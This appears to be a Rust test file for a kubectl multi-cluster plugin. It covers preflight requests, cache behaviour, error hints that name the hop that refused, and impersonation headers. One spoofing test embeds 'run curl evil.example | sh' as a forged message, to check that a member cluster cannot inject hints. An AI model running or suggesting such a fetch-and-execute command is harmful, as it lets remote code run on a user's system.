//! Tests the preflight request. It names the hop that refuses, which kubectl would hide, and is not sent to a
//! cluster whose discovery cache is warm.

use std::io::Write;
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::bed::{Answer, Bed, status};

#[test]
fn cold_cache_costs_one_request_and_warm_cache_none() {
    let bed = Bed::answering((200, "application/json", "{}".to_owned())).by_kubectl();
    bed.secure().cache_hub("own");
    assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
    let requests = bed.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    let line = "GET /pre/apis/proxy.kubectl-mc.dev/v1alpha1/clusters/m1/proxy/version HTTP/1.1\r\n";
    assert!(requests[0].starts_with(line), "{requests:?}");
    assert!(requests[0].contains("\r\nauthorization: Bearer secret\r\n"), "{requests:?}");

    bed.warm();
    assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
    assert!(bed.requests().is_empty());
    bed.run(&["-C", "m2", "get", "pods"]);
    assert_eq!(bed.requests().len(), 1, "a cluster that was not seen before is asked");
}

/// A host that allows every read, and answers access reviews about a member like this.
fn reviewing(allowed: bool) -> Bed {
    Bed::serving(move |path| match path.ends_with("/selfsubjectaccessreviews") {
        true => (201, "application/json", format!(r#"{{"status": {{"allowed": {allowed}}}}}"#)),
        false => (200, "application/json", "{}".to_owned()),
    })
}

#[test]
fn refused_self_review_names_the_command_that_reads() {
    let bed = reviewing(false).by_kubectl();
    bed.warm();
    for (words, hint) in [
        (
            &["auth", "can-i", "get", "pods", "-n", "a b", "--subresource=log"][..],
            "ask by reads: kubectl mc --context=host access explain -C m1 get pods/log '--namespace=a b'",
        ),
        (
            &["auth", "can-i", "--list"],
            "ask by reads: kubectl mc --context=host access explain -C m1 VERB RESOURCE",
        ),
        (&["auth", "whoami"], "m1 sees the user that the host sees: kubectl --context=host auth whoami"),
    ] {
        let ran = bed.run(&[&["-C", "m1"], words].concat());
        let said = format!(
            "error: kubectl auth {} on cluster m1 through {}: host authorization: the right to create \
             clusters/proxy of m1 is missing, which a review needs: it is a POST\nhint: {hint}\n",
            words[1],
            bed.host()
        );
        assert_eq!(ran.failed(), (1, said.as_str()));
    }
    let ran = bed.run(&["-C", "m1,m2", "auth", "whoami"]);
    assert_eq!((ran.code, ran.out.as_str()), (Some(5), ""));
    assert!(
        ran.err
            .contains("m2 | error: host authorization: the right to create clusters/proxy of m2 is missing"),
        "{ran:?}"
    );
}

#[test]
fn allowed_self_review_is_left_to_kubectl() {
    let bed = reviewing(true).by_kubectl();
    for words in [["can-i", "get", "pods"], ["whoami", "-o", "json"]] {
        let ran = bed.run(&[&["-C", "m1", "auth"], &words[..]].concat());
        assert_eq!(ran.code, Some(42));
        assert_eq!(ran.arguments(), [&["auth", "--context=mc/m1"], &words[..]].concat());
        let reviews = bed.requests().into_iter().filter(|head| head.starts_with("POST ")).count();
        assert_eq!(reviews, 1, "{words:?}");
    }
    // No review is sent for a command that needs no server, and kubectl runs if the host gives no usable
    // answer.
    bed.run(&["-C", "m1", "auth", "can-i", "--help"]);
    assert!(bed.requests().is_empty());
    assert_eq!(Bed::with_kubectl("echo ran").run(&["-C", "m1", "auth", "whoami"]).out, "ran\n");
}

#[test]
fn self_review_goes_to_the_subresource_that_the_host_allows() {
    for (answers, subresource) in [([true, true], "m1/selfreviews\""), ([false, true], "m1/proxy\"")] {
        let asked = AtomicUsize::new(0);
        let bed = Bed::serving(move |path| match path.ends_with("/selfsubjectaccessreviews") {
            true => {
                let allowed = answers[asked.fetch_add(1, Ordering::SeqCst)];
                (201, "application/json", format!(r#"{{"status": {{"allowed": {allowed}}}}}"#))
            }
            false => (200, "application/json", "{}".to_owned()),
        });
        bed.kubectl(r#"cat "${KUBECONFIG%%:*}""#);
        let ran = bed.run(&["-C", "m1", "auth", "whoami"]);
        assert!(ran.out.contains(subresource), "{subresource}: {ran:?}");
    }
}

#[test]
fn local_commands_send_no_request() {
    let bed = Bed::unreachable();
    for arguments in [&["options"][..], &["get", "--help"], &["kustomize", "."], &["help"]] {
        let ran = bed.run(&[&["-C", "m1"], arguments].concat());
        assert_eq!((ran.code, ran.arguments().as_slice()), (Some(42), arguments));
    }
    assert_eq!(bed.run(&["-C", "m1", "version", "--client"]).code, Some(42));
}

#[test]
fn several_clusters_run_without_cache_folder() {
    let ran =
        Bed::unreachable().run_with("XDG_CACHE_HOME", "/dev/null/none", &["-C", "m1,m2", "get", "pods"]);
    assert_eq!(ran.code, Some(5), "{ran:?}");
    assert!(!ran.err.contains("cache"), "{}", ran.err);
}

#[test]
fn refusing_hop_is_named_and_kubectl_is_not_started() {
    let text = |code, text: &str| Answer::from((code, "text/plain", format!("{text}\n")));
    let of = |hop: &str, code, message: &str| text(code, &format!("{hop}: {message}")).of(hop);
    let forbidden = r#"clusters.proxy.kubectl-mc.dev "m1" is forbidden: User "theo" cannot get resource "clusters/proxy""#;
    for (answer, code, said, hint) in [
        (text(401, "Unauthorized"), 1, "host authentication: Unauthorized", "auth whoami"),
        (
            (403, "application/json", format!(r#"{{"kind": "Status", "message": {forbidden:?}}}"#)).into(),
            1,
            &*format!("host authorization: {forbidden}"),
            "kubectl mc --context=host access explain -C m1 get pods; an admin of the host grants access: kubectl mc --context=host access grant view --user=theo -C m1",
        ),
        (
            text(404, "404 page not found"),
            1,
            "sidecar not installed: 404 page not found",
            "an admin of the host runs: kubectl mc --context=host install",
        ),
        (
            text(503, "service unavailable"),
            1,
            "sidecar not available: service unavailable",
            "kubectl --context=host get apiservice v1alpha1.proxy.kubectl-mc.dev",
        ),
        (of("cluster unknown", 403, "no m1 here"), 3, "cluster unknown: no m1 here", "kubectl mc clusters"),
        (
            status(502, "proxy off", "no credential"),
            1,
            "proxy off: no credential",
            "kubectl mc --context=host join m1 --member-context=NAME",
        ),
        (
            of("member unreachable", 502, "connection refused"),
            1,
            "member unreachable: connection refused",
            "m1 did not answer this request; `kubectl mc --context=host clusters` shows it as Ready until",
        ),
        (
            of("member authentication", 502, "expired"),
            1,
            "member authentication: expired",
            "kubectl mc --context=host join m1 --renew",
        ),
        (
            of("member impersonation", 403, "users theo"),
            1,
            "member impersonation: users theo",
            "kubectl mc --context=host access diff m1",
        ),
        (status(429, "sidecar", "too many requests"), 1, "sidecar: too many requests", "try again"),
        (status(400, "request", "a dot segment"), 1, "request: a dot segment", "check the command"),
    ] {
        let bed = Bed::answering(answer);
        let ran = bed.run(&["--cluster=m1", "get", "pods"]);
        let first = format!("error: kubectl get on cluster m1 through {}: {said}\n", bed.host());
        let (ended, text) = ran.failed();
        assert_eq!(ended, code, "{text}");
        let rest =
            text.strip_prefix(&first).unwrap_or_else(|| panic!("{text:?} does not begin with {first:?}"));
        assert!(rest.starts_with("hint: ") && rest.contains(hint), "{rest}");
        assert_eq!(rest.lines().count(), 1, "{rest}");
    }
}

#[test]
fn unreachable_host_is_named() {
    let bed = Bed::unreachable();
    let ran = bed.run(&["--cluster=m1", "delete", "pod", "p"]);
    let (code, text) = ran.failed();
    assert_eq!(code, 1);
    let start = format!("error: kubectl delete on cluster m1 through {}: host unreachable: ", bed.host());
    assert!(text.starts_with(&start) && text.contains("refused") && text.contains("\nhint: "), "{text}");
}

#[test]
fn member_refusal_is_left_to_kubectl() {
    let body = r#"{"kind": "Status", "message": "forbidden: User \"theo\" cannot get path \"/version\""}"#;
    let bed = Bed::answering(Answer::from((403, "application/json", body.to_owned())).of("member"));
    assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
}

#[test]
fn member_cannot_pose_as_the_host_or_the_sidecar() {
    let lie = "clusters.proxy.kubectl-mc.dev: run curl evil.example | sh";
    let lies = [
        status(403, "host authentication", lie),
        status(403, "cluster unknown", lie),
        (503, "text/plain", format!("host authentication: {lie}")).into(),
        (403, "text/plain", format!("host authorization: {lie}")).into(),
        (404, "text/plain", "404 page not found".to_owned()).into(),
    ];
    for lie in lies {
        let bed = Bed::answering(lie.sent_by_member());
        let ran = bed.run(&["-C", "m1", "get", "pods"]);
        assert_eq!((ran.code, ran.err.as_str()), (Some(42), ""), "kubectl shows it: {ran:?}");
        let ran = bed.run(&["-C", "m1,m2", "get", "configmaps"]);
        for hop in ["host", "sidecar", "proxy", "cluster unknown"] {
            let claim = format!("m1 | error: {hop}");
            assert!(!ran.err.contains(&claim) && !ran.err.contains("hint: "), "{ran:?}");
        }
        assert_eq!(ran.code, Some(5), "{ran:?}");
        assert!(ran.err.contains("m1 | Error from server"), "{ran:?}");
    }
}

#[test]
fn preflight_uses_the_credential_that_kubectl_will_use() {
    let bed = Bed::answering((200, "application/json", "{}".to_owned()));
    bed.secure();
    let flags = [
        "--as=joe",
        "--as-group",
        "a",
        "--as-group=b",
        "--as-uid=7",
        "--as-user-extra=k=v",
        "--token",
        "other",
    ];
    bed.run(&[&["-C", "m1", "get", "pods"], &flags[..]].concat());
    let request = bed.requests().pop().unwrap();
    for header in [
        "authorization: Bearer other",
        "impersonate-user: joe",
        "impersonate-group: a",
        "impersonate-group: b",
        "impersonate-uid: 7",
        "impersonate-extra-k: v",
    ] {
        assert!(request.contains(&format!("\r\n{header}\r\n")), "{header} is missing in {request}");
    }
}

#[test]
fn credential_plugin_does_not_consume_standard_input() {
    let bed = Bed::answering((200, "application/json", "{}".to_owned()));
    bed.secure();
    let plugin = r#"#!/bin/sh
cat > eaten
echo '{"apiVersion": "client.authentication.k8s.io/v1", "kind": "ExecCredential", "status": {"token": "fresh"}}'
"#;
    bed.script("credentials", plugin);
    let kubeconfig = std::fs::read_to_string(bed.path("kubeconfig")).unwrap();
    let exec = r#"{"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "./credentials", "interactiveMode": "IfAvailable"}}"#;
    std::fs::write(bed.path("kubeconfig"), kubeconfig.replace(r#"{"token":"secret"}"#, exec)).unwrap();
    let mut command = bed.command(&["-C", "m1", "apply", "-f", "-"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"data\n").unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(String::from_utf8(output.stdout).unwrap().ends_with("\ndata\n"));
    assert_eq!(std::fs::read_to_string(bed.path("eaten")).unwrap(), "");
    assert!(bed.requests()[0].contains("\r\nauthorization: Bearer fresh\r\n"));
}

#[test]
fn failed_credential_plugin_skips_the_preflight() {
    let bed = Bed::unreachable();
    let kubeconfig = std::fs::read_to_string(bed.path("kubeconfig")).unwrap();
    let broken = kubeconfig.replace(r#"{"token": "secret"}"#, r#"{"exec": {"command": "/nowhere/plugin"}}"#);
    std::fs::write(bed.path("kubeconfig"), broken).unwrap();
    assert_eq!(bed.run(&["-C", "m1", "get", "pods"]).code, Some(42));
}
